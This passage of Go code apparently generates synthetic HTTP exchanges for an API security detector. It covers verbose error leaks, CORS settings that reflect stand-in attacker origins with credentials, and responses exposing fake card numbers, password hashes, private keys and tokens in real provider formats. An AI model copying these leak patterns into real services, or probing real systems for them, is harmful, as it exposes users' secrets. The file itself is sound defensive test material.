		{500, "application/json", `{"error":"Error 1146 (42S02): Table 'adpulse.partner_keys' doesn't exist"}`},
		{500, "application/json", `{"code":"ER_BAD_FIELD_ERROR","errno":1054,"sqlMessage":"Unknown column 'ctr_7d' in 'field list'","sqlState":"42S22","index":0,"sql":"SELECT id, ctr_7d FROM campaigns WHERE account_id = 7"}`},
		{500, "text/plain", "sql: Scan error on column index 3, name \"budget_daily\": converting NULL to int64 is unsupported"},
		{500, "text/plain", "thread 'tokio-runtime-worker' panicked at src/pixel/decode.rs:88:41:\ncalled `Result::unwrap()` on an `Err` value: InvalidByte(12, 61)\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n"},
		{500, "text/plain", "/app/app/services/report_builder.rb:57:in 'ReportBuilder#aggregate': undefined method 'sum' for nil (NoMethodError)\n\tfrom /app/app/controllers/reports_controller.rb:22:in 'ReportsController#create'\n\tfrom /usr/local/bundle/gems/actionpack-7.2.1/lib/action_controller/metal/basic_implicit_render.rb:8:in 'ActionController::BasicImplicitRender#send_action'\n"},
		{500, "application/json", `{"error":"NameError","message":"uninitialized constant PartnerSync::CrmClient","backtrace":["/app/app/jobs/partner_sync.rb:14:in ` + "`perform'" + `","/usr/local/bundle/gems/activejob-7.1.3/lib/active_job/execution.rb:59:in ` + "`block in _perform_job'" + `"]}`},
		{500, "text/html", `<!DOCTYPE html><html><head><title>Symfony Exception</title></head><body class="exception"><h1 class="break-long-words exception-message">An exception occurred while executing a query: SQLSTATE[42P01]: Undefined table: 7 ERROR:  relation "saml_idp" does not exist</h1><div class="trace-details"><span class="trace-class">Doctrine\DBAL\Exception\TableNotFoundException</span> in <a>vendor/doctrine/dbal/src/Driver/API/PostgreSQL/ExceptionConverter.php</a> (line 62)</div></body></html>`},
		{500, "text/html", `<!doctype html><html><head><title>werkzeug.exceptions.BadRequestKeyError: 400 Bad Request: The browser (or proxy) sent a request that this server could not understand. // Werkzeug Debugger</title></head><body><div class="debugger"><h1>BadRequestKeyError</h1><div class="traceback"><h3>Traceback <em>(most recent call last)</em></h3><pre>File "/srv/sso/app.py", line 88, in login
    user = request.form['username']</pre></div><p>The debugger caught an exception in your WSGI application. <b>console locked</b> — enter the PIN.</p></div></body></html>`},
		{500, "application/json", `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\n   at Keystone.Admin.Services.GroupService.GetPrimary(Guid userId) in /src/Keystone.Admin/Services/GroupService.cs:line 54\n   at Keystone.Admin.Controllers.UsersController.Get(Guid id) in /src/Keystone.Admin/Controllers/UsersController.cs:line 31"}`},
		{500, "text/plain", "Exception in thread \"edi-worker-3\" java.lang.ArrayIndexOutOfBoundsException: Index 14 out of bounds for length 12\n\tat com.palletworks.edi.X12Parser.segment(X12Parser.java:301)\n\tat com.palletworks.edi.X12Parser.parse(X12Parser.java:77)\n"},
		{400, "application/json", `{"errors":[{"message":"Unexpected error.","extensions":{"code":"INTERNAL_SERVER_ERROR","exception":{"stacktrace":"Error: Cannot return null for non-nullable field Campaign.budget.\n    at completeValue (/app/node_modules/graphql/execution/execute.js:605:13)\n    at /app/node_modules/graphql/execution/execute.js:489:9"}}}]}`},
		{500, "text/plain", "org.hibernate.exception.SQLGrammarException: could not extract ResultSet; SQL [n/a]; nested exception is org.postgresql.util.PSQLException: ERROR: column p.reserved_qty does not exist\n  Position: 112\n"},
		{500, "application/json", `{"error":{"message":"SequelizeDatabaseError: operator does not exist: integer = text","name":"SequelizeDatabaseError","parent":{"code":"42883","sql":"SELECT * FROM \"audiences\" WHERE \"id\" = 'aud_1'"}}}`},
		{500, "text/plain", "SQLite3::BusyException: database is locked\n/app/vendor/bundle/ruby/3.3.0/gems/sqlite3-1.7.3/lib/sqlite3/statement.rb:108:in `step'\n"},
		{500, "application/json", `{"error":"Traceback (most recent call last):\n  File \"/srv/scim/handlers.py\", line 140, in patch_user\n    op = body[\"Operations\"][0]\nIndexError: list index out of range\n"}`},
		{500, "text/html", `<html><head><title>Whoops! There was an error.</title></head><body><div class="exception-summary"><div class="exc-title">ErrorException</div><div class="exc-message">Undefined variable $warehouse</div></div><div class="frame-file">/var/www/erp/app/Http/Controllers/StockController.php:42</div><div class="frame-class">App\Http\Controllers\StockController</div></body></html>`},
		{500, "text/xml", h8SoapFault("soap:Server", "java.sql.SQLException: ORA-01017: invalid username/password; logon denied", "")},
		{503, "text/plain", "Warning: mysqli_connect(): (HY000/1045): Access denied for user 'erp'@'10.0.3.22' (using password: YES) in /var/www/html/inc/db.php on line 9\n"},
		{500, "application/json", `{"detail":"(psycopg2.errors.UndefinedColumn) column campaigns.pacing_mode does not exist\nLINE 1: SELECT campaigns.id, campaigns.pacing_mode FROM campaigns WH...\n                             ^\n\n[SQL: SELECT campaigns.id, campaigns.pacing_mode FROM campaigns WHERE campaigns.account_id = %(account_id_1)s]"}`},
		{500, "text/plain", "Microsoft.Data.SqlClient.SqlException (0x80131904): Login failed for user 'keystone_app'.\n   at Microsoft.Data.SqlClient.SqlInternalConnection.OnError(SqlException exception, Boolean breakConnection, Action`1 wrapCloseInAction)\n   at Keystone.Audit.Exporter.Run() in /src/Keystone.Audit/Exporter.cs:line 19\n"},
		{500, "application/json", `{"error":"Internal","message":"panic: assignment to entry in nil map\n\ngoroutine 44 [running]:\nmain.(*pixelStore).Add(...)\n\t/src/pixel/store.go:61\nmain.pixelHandler(0x0?, 0xc00012a000)\n\t/src/pixel/main.go:120 +0x1f4"}`},
		{500, "text/html", `<html><body><h1>Internal Server Error</h1><pre>Fatal error: Allowed memory size of 134217728 bytes exhausted (tried to allocate 20480 bytes) in /var/www/html/vendor/league/csv/src/Reader.php on line 312</pre></body></html>`},
		{500, "text/plain", "java.lang.ClassCastException: class java.lang.String cannot be cast to class java.lang.Integer\n\tat com.keystone.saml.AttributeMapper.map(AttributeMapper.java:58)\n"},
		{500, "application/json", `{"error":"ActiveRecord::StatementInvalid","message":"PG::UndefinedTable: ERROR:  relation \"ad_groups\" does not exist\nLINE 1: SELECT \"ad_groups\".* FROM \"ad_groups\"\n                                  ^\n"}`},
		{500, "text/plain", "Unhandled exception. System.NullReferenceException: Object reference not set to an instance of an object.\n   at PalletWorks.Soap.OrderService.GetOrder(String id) in D:\\agent\\_work\\1\\s\\Soap\\OrderService.cs:line 112\n"},
		{500, "text/plain", "Fatal error: Uncaught TypeError: array_map(): Argument #2 ($array) must be of type array, null given in /var/www/adpulse/src/Report.php:88\nStack trace:\n#0 /var/www/adpulse/src/Report.php(88): array_map(Object(Closure), NULL)\n#1 {main}\n  thrown in /var/www/adpulse/src/Report.php on line 88\n"},
		{500, "application/json", `{"message":"Server Error","exception":"Symfony\\Component\\HttpKernel\\Exception\\HttpException","file":"/var/www/idp/vendor/laravel/framework/src/Illuminate/Foundation/Application.php","line":1361,"trace":[{"file":"/var/www/idp/app/Http/Middleware/Tenant.php","line":23,"function":"abort"}]}`},
		{500, "text/plain", "at Object.<anonymous> (/srv/app/src/scim/bulk.ts:45:11)\nTypeError: Cannot destructure property 'operations' of 'body' as it is undefined.\n    at BulkController.handle (/srv/app/src/scim/bulk.ts:45:11)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\n"},
		{500, "application/json", `{"error":"SqlState: 42703, Message: column \"kid\" does not exist, Position: 8, Npgsql.PostgresException"}`},
		{500, "text/plain", "MongoServerError: E11000 duplicate key error collection: adpulse.partners index: api_key_1 dup key: { api_key: \"...\" }\n    at /app/node_modules/mongodb/lib/operations/insert.js:50:33\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\n"},
	}
	hosts := []string{h8ERP, h8ERP, h8Ad, h8IdP, h8ERP, h8Ad, h8Ad, h8ERP, h8ERP, h8Ad, h8Ad, h8Ad, h8IdP, h8IdP, h8Ad, h8ERP, h8ERP, h8ERP, h8ERP, h8Ad, h8Ad, h8Ad, h8Px, h8Ad, h8Ad, h8IdP, h8IdP, h8IdP, h8ERP, h8Ad, h8ERP, h8Ad, h8Ad, h8IdP, h8ERP, h8ERP, h8ERP, h8Ad, h8IdP, h8Px, h8ERP, h8IdP, h8Ad, h8ERP, h8Ad, h8IdP, h8IdP, h8IdP, h8Ad}
	for i, l := range ls {
		host := hosts[i%len(hosts)]
		var e *h8Ex
		switch host {
		case h8Px:
			e = g.ex(nil, "GET", "https://px.adpulse.test/p.gif?ev=imp&cid=cmp_"+g.chars(10, h8Alnum)+"&d="+g.chars(40, h8Alnum+"-_"))
			e.noAuth = true
		case h8IdP:
			u := g.user(h8IdP)
			e = g.ex(u, g.pick("GET", "PATCH", "POST"), g.pick("/scim/v2/Users/"+g.uuid(), "/admin/v1/groups/"+g.uuid()+"/members", "/admin/v1/audit-logs/export.csv", "/app/saml/sso"))
		case h8ERP:
			u := g.user(h8ERP)
			if strings.Contains(l.ct, "xml") {
				e = g.ex(u, "POST", "/soap/InventoryService").soap("CreatePickList", "<inv:OrderRef>SO-2026-"+fmt.Sprint(g.r.Intn(999999))+"</inv:OrderRef>")
			} else {
				e = g.ex(u, "GET", g.pick("/api/exports/inventory.csv?warehouse=DC-EAST-2", "/api/stock/PLT-EUR-1200", "/api/shipments/SHP"+fmt.Sprint(g.r.Intn(999999))))
			}
		default:
			u := g.user(h8Ad)
			e = g.ex(u, g.pick("GET", "POST"), g.pick("/v2/reports/query", "/v2/campaigns/cmp_"+g.chars(10, h8Alnum), "/graphql", "/v2/audiences/aud_"+g.hex(8)))
		}
		if e.method != "GET" && e.body == "" {
			e.jbody(map[string]any{"id": g.uuid(), "op": g.pick("add", "replace", "run"), "items": []string{"cmp_" + g.chars(10, h8Alnum)}})
		}
		e.resp(l.status, l.ct+"; charset=utf-8", l.body)
		g.addA(e, h8VERB)
	}
	// CORS letting a foreign origin read credentialed responses
	cors := [][3]string{
		{h8IdP, "https://keystone-id-support.evil-cdn.example", "reflect"},
		{h8IdP, "null", "null"},
		{h8Ad, "https://attacker.example", "reflect"},
		{h8Ad, "https://x.evil-cdn.example", "*"},
		{h8ERP, "http://localhost:3000", "reflect"},
		{h8ERP, "https://palletworks.test.evil-cdn.example", "reflect"},
		{h8Ad, "null", "null"},
		{h8IdP, "https://evil.example", "*"},
		{h8ERP, "https://phish.example", "reflect"},
		{h8Ad, "https://adpulse-login.example", "reflect"},
	}
	for _, c := range cors {
		u := g.user(c[0])
		path := map[string]string{h8IdP: "/admin/v1/users/me", h8ERP: "/api/suppliers/S40231", h8Ad: "/v2/account/api-credentials"}[c[0]]
		e := g.ex(u, "GET", path).hdr("Origin", c[1])
		e.rjson(200, map[string]any{"id": "obj_" + g.hex(8), "name": "Northwind", "role": u.role})
		acao := c[1]
		if c[2] == "*" {
			acao = "*"
		}
		e.rhdr("Access-Control-Allow-Origin", acao).rhdr("Access-Control-Allow-Credentials", "true").rhdr("Vary", "Origin")
		g.addA(e, h8VERB)
	}
}

// ---------- sensitive data in responses ----------

func (g *h8Gen) pem(kind string, lines int) string {
	var b strings.Builder
	b.WriteString("-----BEGIN " + kind + "-----\n")
	if kind == "RSA PRIVATE KEY" || kind == "PRIVATE KEY" {
		b.WriteString("MIIEv" + g.chars(59, h8B64) + "\n")
	}
	for i := 0; i < lines; i++ {
		b.WriteString(g.chars(64, h8B64) + "\n")
	}
	b.WriteString(g.chars(24, h8B64) + "==\n-----END " + kind + "-----\n")
	return b.String()
}

func (g *h8Gen) attackSensitive() {
	type lk struct {
		host, method, path, ct string
		body                   func() string
	}
	visa := func() string { return g.card("4", 16) }
	mc := func() string { return g.card("5"+fmt.Sprint(1+g.r.Intn(5)), 16) }
	amex := func() string { return g.card("37", 15) }
	bcrypt := func() string { return "$2b$12$" + g.chars(53, h8Alnum+"./") }
	awsID := func() string { return "AKIA" + g.chars(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") }
	awsSecret := func() string { return g.chars(40, h8Alnum+"/+") }
	ls := []lk{
		// cards
		{h8Ad, "GET", "/v2/billing/payment-methods?expand=card.number", "application/json", func() string {
			return h8JSON(map[string]any{"data": []any{map[string]any{"id": "pm_" + g.chars(24, h8Alnum), "card": map[string]any{"brand": "visa", "number": visa(), "exp_month": 4, "exp_year": 2028, "cvc": "713"}}}})
		}},
		{h8Ad, "GET", "/v2/billing/invoices/in_" + g.hex(10), "application/json", func() string {
			return h8JSON(map[string]any{"invoice": map[string]any{"id": "in_" + g.hex(10), "payment": map[string]any{"method": "card", "card_number": h8Group4(mc()), "holder": "Omar Haddad"}}})
		}},
		{h8ERP, "GET", "/api/exports/customers.csv", "text/csv", func() string {
			var b strings.Builder
			b.WriteString("customer_no,name,card_number,card_exp\n")
			for i := 0; i < 4; i++ {
				fmt.Fprintf(&b, "C%05d,%s,%s,0%d/2%d\n", g.r.Intn(99999), h8Names[g.r.Intn(16)], visa(), 1+g.r.Intn(9), 7+g.r.Intn(3))
			}
			return b.String()
		}},
		{h8ERP, "POST", "/soap/PaymentService", "text/xml", func() string {
			return `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ns2:GetPaymentResponse xmlns:ns2="urn:palletworks:payment:v1"><ns2:Payment><ns2:CardNumber>` + amex() + `</ns2:CardNumber><ns2:Expiry>2029-03</ns2:Expiry><ns2:Amount>1290.50</ns2:Amount></ns2:Payment></ns2:GetPaymentResponse></soap:Body></soap:Envelope>`
		}},
		{h8IdP, "GET", "/admin/v1/users/usr_" + g.chars(20, h8Alnum) + "/profile", "application/json", func() string {
			return h8JSON(map[string]any{"profile": map[string]any{"firstName": "Ines", "corporateCard": map[string]any{"pan": g.card("6011", 16), "expiry": "11/29"}}})
		}},
		{h8Ad, "GET", "/v2/support/tickets/TCK-" + fmt.Sprint(g.r.Intn(99999)), "application/json", func() string {
			return h8JSON(map[string]any{"ticket": "TCK-88121", "messages": []any{map[string]any{"from": "customer", "text": "Please charge my card " + h8Group4(visa()) + " exp 05/28 for the December budget."}}})
		}},
		{h8ERP, "GET", "/api/orders/SO-2026-4412/payment", "application/json", func() string {
			return h8JSON(map[string]any{"payment": map[string]any{"type": "card", "number": g.card("35"+fmt.Sprint(28+g.r.Intn(60)), 16), "network": "jcb"}})
		}},
		{h8Ad, "GET", "/v2/billing/payment-methods/pm_" + g.chars(12, h8Alnum), "application/json", func() string {
			return h8JSON(map[string]any{"card": map[string]any{"brand": "unionpay", "pan": g.card("62", 16), "exp": "09/30"}})
		}},
		{h8ERP, "GET", "/api/exports/refunds.txt", "text/plain", func() string {
			return "REFUND BATCH 2026-11-19\n0001 RF-88121 EUR 120.00 CARD " + mc() + " OK\n0002 RF-88122 EUR 45.10 CARD " + g.card("2200", 16) + " OK\n"
		}},
		{h8IdP, "GET", "/admin/v1/audit-logs/evt_" + g.hex(10), "application/json", func() string {
			return h8JSON(map[string]any{"eventType": "app.user.update", "debugData": map[string]any{"requestBody": map[string]any{"payment_card": visa(), "cvv": "402"}}})
		}},
		// passwords and hashes
		{h8IdP, "GET", "/scim/v2/Users/" + g.uuid(), "application/scim+json", func() string {
			u := g.scimUser()
			u["password"] = "Winter2026!" + g.chars(3, h8Alnum)
			return h8JSON(u)
		}},
		{h8IdP, "GET", "/admin/v1/users?include=credentials", "application/json", func() string {
			return h8JSON(map[string]any{"data": []any{map[string]any{"login": "lena@northwind.example", "credentials": map[string]any{"password_hash": bcrypt()}}, map[string]any{"login": "omar@northwind.example", "credentials": map[string]any{"password_hash": bcrypt()}}}})
		}},
		{h8IdP, "GET", "/admin/v1/users/export.csv", "text/csv", func() string {
			var b strings.Builder
			b.WriteString("login,name,password_hash,mfa\n")
			for i := 0; i < 3; i++ {
				fmt.Fprintf(&b, "%s,%s,%s,totp\n", g.email(h8Names[i]), h8Names[i], bcrypt())
			}
			return b.String()
		}},
		{h8IdP, "GET", "/admin/v1/users/usr_" + g.chars(20, h8Alnum) + "?debug=1", "application/json", func() string {
			return h8JSON(map[string]any{"id": "usr_" + g.chars(20, h8Alnum), "passwordHash": "$argon2id$v=19$m=65536,t=3,p=4$" + g.chars(22, h8Alnum+"+/") + "$" + g.chars(43, h8Alnum+"+/")})
		}},
		{h8Ad, "GET", "/v2/admin/accounts/acc_" + g.hex(6), "application/json", func() string {
			return h8JSON(map[string]any{"account": map[string]any{"owner": "ag-northwind", "password": "pbkdf2_sha256$870000$" + g.chars(22, h8Alnum) + "$" + g.chars(43, h8Alnum+"+/") + "="}})
		}},
		{h8ERP, "GET", "/api/users/wh-clerk-014", "application/json", func() string {
			return h8JSON(map[string]any{"user": "wh-clerk-014", "pin": "4471", "pwd_sha256": g.hex(64), "handheld": "TC58-0041"})
		}},
		{h8ERP, "POST", "/soap/UserService", "text/xml", func() string {
			return `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOperatorResponse><Operator><Login>wh-lead-003</Login><Password>Pallet!Lead2026</Password><Role>supervisor</Role></Operator></GetOperatorResponse></soap:Body></soap:Envelope>`
		}},
		{h8Ad, "GET", "/v2/partners/prt_" + g.hex(6) + "/sftp", "application/json", func() string {
			return h8JSON(map[string]any{"sftp": map[string]any{"host": "sftp.adpulse.test", "username": "northwind", "password": "v9#Qe2!" + g.chars(10, h8Alnum)}})
		}},
		{h8IdP, "GET", "/admin/v1/ldap/config", "application/json", func() string {
			return h8JSON(map[string]any{"ldap": map[string]any{"url": "ldaps://dc1.corp.northwind.example:636", "bindDn": "CN=svc-keystone,OU=Service,DC=corp,DC=example", "bindPassword": "L4p!" + g.chars(14, h8Alnum)}})
		}},
		{h8IdP, "GET", "/admin/v1/users/usr_" + g.chars(20, h8Alnum) + "/htpasswd", "text/plain", func() string {
			return "lena:$2y$10$" + g.chars(53, h8Alnum+"./") + "\nomar:$2y$10$" + g.chars(53, h8Alnum+"./") + "\n"
		}},
		// private keys
		{h8IdP, "GET", "/admin/v1/signing-keys/ks-2026-11-a?include_private=true", "application/json", func() string {
			return h8JSON(map[string]any{"kid": "ks-2026-11-a", "alg": "RS256", "private_key_pem": g.pem("RSA PRIVATE KEY", 12)})
		}},
		{h8IdP, "GET", "/oauth2/default/v1/keys?debug=true", "application/json", func() string {
			return h8JSON(map[string]any{"keys": []any{map[string]any{"kty": "EC", "crv": "P-256", "kid": "ks-2026-08-ec", "x": g.chars(43, h8Alnum+"-_"), "y": g.chars(43, h8Alnum+"-_"), "d": g.chars(43, h8Alnum+"-_")}}})
		}},
		{h8IdP, "GET", "/oauth2/default/v1/keys?all=1", "application/json", func() string {
			return h8JSON(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "ks-2026-11-a", "e": "AQAB", "n": g.chars(342, h8Alnum+"-_"), "d": g.chars(342, h8Alnum+"-_"), "p": g.chars(171, h8Alnum+"-_"), "q": g.chars(171, h8Alnum+"-_")}}})
		}},
		{h8IdP, "GET", "/app/saml/config/export", "application/xml", func() string {
			return `<?xml version="1.0"?><SamlConfig><EntityId>https://sso.keystone-id.test/saml</EntityId><SigningCertificate>` + g.certB64(400) + `</SigningCertificate><SigningKey>` + g.pem("PRIVATE KEY", 10) + `</SigningKey></SamlConfig>`
		}},
		{h8ERP, "GET", "/api/admin/backup/ssh", "text/plain", func() string {
			return g.pem("OPENSSH PRIVATE KEY", 6)
		}},
		{h8ERP, "GET", "/api/admin/config/export?format=yaml&full=1", "application/yaml", func() string {
			return "tenant: dc-east-2\ntls:\n  cert_file: /etc/erp/tls.crt\n  key: |\n    " + strings.ReplaceAll(strings.TrimSpace(g.pem("EC PRIVATE KEY", 3)), "\n", "\n    ") + "\n"
		}},
		{h8Ad, "GET", "/v2/partners/prt_" + g.hex(6) + "/gcp", "application/json", func() string {
			return h8JSON(map[string]any{"type": "service_account", "project_id": "adpulse-prod-4412", "private_key_id": g.hex(40), "private_key": g.pem("PRIVATE KEY", 8), "client_email": "bq-export@adpulse-prod-4412.iam.gserviceaccount.com", "token_uri": "https://oauth2.googleapis.com/token"})
		}},
		// cloud and provider credentials
		{h8ERP, "GET", "/api/admin/integrations/s3", "application/json", func() string {
			return h8JSON(map[string]any{"bucket": "pw-edi-archive", "region": "us-east-1", "aws_access_key_id": awsID(), "aws_secret_access_key": awsSecret()})
		}},
		{h8Ad, "GET", "/v2/admin/debug/env", "text/plain", func() string {
			return "NODE_ENV=production\nPORT=8080\nAWS_ACCESS_KEY_ID=" + awsID() + "\nAWS_SECRET_ACCESS_KEY=" + awsSecret() + "\nREDIS_URL=redis://cache:6379/0\n"
		}},
		{h8Ad, "GET", "/.env", "text/plain", func() string {
			return "APP_NAME=AdPulse\nAPP_KEY=base64:" + base64.StdEncoding.EncodeToString([]byte(g.chars(32, h8Alnum))) + "\nDB_CONNECTION=mysql\nDB_HOST=10.0.3.14\nDB_USERNAME=adpulse\nDB_PASSWORD=Xk9!" + g.chars(12, h8Alnum) + "\nSTRIPE_SECRET=sk_live_51" + g.chars(96, h8Alnum) + "\n"
		}},
		{h8ERP, "GET", "/api/admin/config/azure", "application/json", func() string {
			return h8JSON(map[string]any{"storage": "DefaultEndpointsProtocol=https;AccountName=pwedi;AccountKey=" + base64.StdEncoding.EncodeToString([]byte(g.chars(64, h8Alnum))) + ";EndpointSuffix=core.windows.net"})
		}},
		{h8ERP, "GET", "/api/admin/config/servicebus", "text/plain", func() string {
			return "Endpoint=sb://pw-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + base64.StdEncoding.EncodeToString([]byte(g.chars(32, h8Alnum))) + "\n"
		}},
		{h8Ad, "GET", "/v2/exports/ex_" + g.hex(8), "application/json", func() string {
			return h8JSON(map[string]any{"download": "https://adpulseexports.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-01-01T00:00:00Z&st=2026-11-19T00:00:00Z&spr=https&sig=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(g.chars(32, h8Alnum))))})
		}},
		{h8Ad, "GET", "/v2/partners/prt_" + g.hex(6) + "/integration?reveal=true", "application/json", func() string {
			return h8JSON(map[string]any{"partner": "Northwind DSP", "stripe": map[string]any{"secret_key": "sk_live_51" + g.chars(96, h8Alnum)}})
		}},
		{h8Ad, "GET", "/v2/admin/integrations", "application/json", func() string {
			return h8JSON(map[string]any{"slack": map[string]any{"bot_token": "xoxb-" + fmt.Sprint(1000000000+g.r.Intn(900000000)) + "-" + fmt.Sprint(1000000000000+g.r.Int63n(900000000000)) + "-" + g.chars(24, h8Alnum)}})
		}},
		{h8IdP, "GET", "/admin/v1/apps/github-enterprise/provisioning", "application/json", func() string {
			return h8JSON(map[string]any{"app": "GitHub Enterprise", "scim_token": "ghp_" + g.chars(36, h8Alnum)})
		}},
		{h8IdP, "GET", "/admin/v1/apps/gitlab/provisioning", "application/json", func() string {
			return h8JSON(map[string]any{"app": "GitLab", "settings": map[string]any{"personal_access_token": "glpat-" + g.chars(20, h8Alnum+"-_")}})
		}},
		{h8Ad, "GET", "/v2/admin/integrations/npm", "text/plain", func() string {
			return "//registry.npmjs.org/:_authToken=npm_" + g.chars(36, h8Alnum) + "\n"
		}},
		{h8Ad, "GET", "/v2/partners/shopify/config", "application/json", func() string {
			return h8JSON(map[string]any{"shop": "northwind-store.myshopify.com", "admin_token": "shpat_" + g.hex(32)})
		}},
		{h8Ad, "GET", "/v2/admin/ai/settings", "application/json", func() string {
			return h8JSON(map[string]any{"provider": "openai", "model": "gpt-4o-mini", "api_key": "sk-proj-" + g.chars(48, h8Alnum+"-_") + "T3BlbkFJ" + g.chars(48, h8Alnum+"-_")})
		}},
		{h8Ad, "GET", "/v2/admin/ai/copywriter", "application/json", func() string {
			return h8JSON(map[string]any{"provider": "anthropic", "key": "sk-ant-api03-" + g.chars(93, h8Alnum+"-_") + "AA"})
		}},
		{h8ERP, "GET", "/api/admin/config/datasource", "application/json", func() string {
			return h8JSON(map[string]any{"datasource": map[string]any{"url": "postgres://erp_app:Pw" + g.chars(14, h8Alnum) + "@erp-db.service.consul:5432/erp?sslmode=require"}})
		}},
		{h8ERP, "GET", "/api/admin/config/legacy.ini", "text/plain", func() string {
			return "[database]\nhost = 10.0.3.22\nuser = erp\npassword = " + g.chars(16, h8Alnum) + "\n\n[smtp]\nhost = smtp.palletworks.test\n"
		}},
		{h8ERP, "GET", "/api/admin/config/app.toml", "application/toml", func() string {
			return "[server]\nport = 8443\n\n[tms]\nendpoint = \"https://tms.carrier-hub.example/api/v2\"\napi_secret = \"" + g.chars(40, h8Alnum) + "\"\n"
		}},
		{h8Ad, "GET", "/v2/admin/actuator/env", "application/json", func() string {
			return h8JSON(map[string]any{"activeProfiles": []string{"prod"}, "propertySources": []any{map[string]any{"name": "applicationConfig", "properties": map[string]any{"spring.datasource.password": map[string]any{"value": "R3p0rt!" + g.chars(10, h8Alnum)}, "adpulse.partner.client-secret": map[string]any{"value": g.chars(40, h8Alnum)}}}}})
		}},
		{h8ERP, "GET", "/api/admin/config/php", "text/plain", func() string {
			return "<?php\ndefine('DB_HOST', '10.0.3.22');\ndefine('DB_USER', 'erp');\ndefine('DB_PASSWORD', '" + g.chars(14, h8Alnum) + "');\n"
		}},
		{h8IdP, "GET", "/admin/v1/apps/0oa" + g.chars(17, h8Alnum) + "?expand=secret", "application/json", func() string {
			return h8JSON(map[string]any{"credentials": map[string]any{"oauthClient": map[string]any{"client_id": "0oa" + g.chars(17, h8Alnum), "client_secret": g.chars(40, h8Alnum+"-_")}}})
		}},
		{h8IdP, "GET", "/admin/v1/users/usr_" + g.chars(20, h8Alnum) + "/factors/totp?reveal=1", "application/json", func() string {
			return h8JSON(map[string]any{"factorType": "token:software:totp", "sharedSecret": g.chars(32, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")})
		}},
		{h8Ad, "GET", "/v2/partners/prt_" + g.hex(6) + "/api-key", "application/json", func() string {
			return h8JSON(map[string]any{"api_key": "apk_live_" + g.chars(40, h8Alnum), "created": "2026-11-19"})
		}},
		{h8IdP, "POST", "/oauth2/default/v1/token", "application/json", func() string {
			return h8JSON(map[string]any{"token_type": "Bearer", "access_token": h8Valid("svc-x", "api", "https://api.adpulse.test"), "id_token_signing_key": g.pem("RSA PRIVATE KEY", 6)})
		}},
		{h8Ad, "GET", "/v2/admin/debug/config", "application/yaml", func() string {
			return "aws:\n  access_key_id: " + awsID() + "\n  secret_access_key: " + awsSecret() + "\nsendgrid:\n  api_key: SG." + g.chars(22, h8Alnum+"-_") + "." + g.chars(43, h8Alnum+"-_") + "\n"
		}},
		{h8ERP, "GET", "/api/imports/imp_" + g.hex(12) + "/log?verbose=true", "text/plain", func() string {
			return "2026-11-20 07:11:02 DEBUG connecting to sftp://edi:" + g.chars(12, h8Alnum) + "@sftp.acme-retail.example:22/inbound\n2026-11-20 07:11:03 INFO  listed 4 files\n"
		}},
		{h8Ad, "GET", "/v2/campaigns/cmp_" + g.chars(10, h8Alnum) + "/webhooks?include=secrets", "application/json", func() string {
			return h8JSON(map[string]any{"webhooks": []any{map[string]any{"url": "https://hooks.northwind-dsp.example/adpulse", "signing_secret": "whsec_" + g.chars(32, h8Alnum)}}})
		}},
		{h8IdP, "GET", "/admin/v1/apps/slack/provisioning", "application/json", func() string {
			return h8JSON(map[string]any{"app": "Slack", "token": "xoxp-" + fmt.Sprint(100000000000+g.r.Int63n(800000000000)) + "-" + fmt.Sprint(100000000000+g.r.Int63n(800000000000)) + "-" + fmt.Sprint(100000000000+g.r.Int63n(800000000000)) + "-" + g.hex(32)})
		}},
		{h8ERP, "GET", "/api/admin/config/export?format=yaml&secrets=1", "application/yaml", func() string {
			return "database:\n  host: erp-db.service.consul\n  user: erp_app\n  password: \"" + g.chars(18, h8Alnum) + "\"\nsmtp:\n  password: \"" + g.chars(16, h8Alnum) + "\"\n"
		}},
		{h8Ad, "GET", "/v2/admin/users/mk-lena", "application/json", func() string {
			return h8JSON(map[string]any{"user": map[string]any{"login": "mk-lena", "security": map[string]any{"password_digest": bcrypt(), "otp_secret": g.chars(32, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")}}})
		}},
		{h8ERP, "GET", "/api/customers/C" + fmt.Sprint(g.r.Intn(99999)) + "/cards", "application/json", func() string {
			return h8JSON(map[string]any{"cards": []any{map[string]any{"card_number": g.card("6759", 16), "type": "maestro"}, map[string]any{"card_number": visa(), "type": "visa"}}})
		}},
		{h8IdP, "GET", "/admin/v1/idps/ldap/0oa" + g.chars(17, h8Alnum), "application/xml", func() string {
			return `<ldapIdp><url>ldaps://dc1.corp.example:636</url><bindDn>CN=svc-keystone</bindDn><bindPassword>` + g.chars(16, h8Alnum) + `!9</bindPassword></ldapIdp>`
		}},
		{h8Ad, "GET", "/v2/reports/rpt_" + g.hex(10) + "/raw", "application/json", func() string {
			return h8JSON(map[string]any{"rows": []any{map[string]any{"conversion_id": "cv_" + g.hex(12), "order": map[string]any{"cc_number": amex(), "cc_exp": "12/27"}}}})
		}},
		{h8IdP, "GET", "/admin/v1/system/mail", "application/json", func() string {
			return h8JSON(map[string]any{"smtp": map[string]any{"url": "smtp://postmaster%40keystone-id.test:" + g.chars(16, h8Alnum) + "@smtp.mailgun.example:587"}})
		}},
		{h8ERP, "GET", "/api/admin/config/redis", "text/plain", func() string {
			return "REDIS_URL=redis://default:" + g.chars(20, h8Alnum) + "@cache.palletworks.internal:6379/0\nQUEUE=edi\n"
		}},
		{h8Ad, "GET", "/v2/admin/debug/vars", "application/json", func() string {
			return h8JSON(map[string]any{"cmdline": []string{"/app/adpulse", "--db=mysql://adpulse:" + g.chars(14, h8Alnum) + "@10.0.3.14:3306/adpulse"}, "memstats": map[string]any{"Alloc": 48211}})
		}},
	}
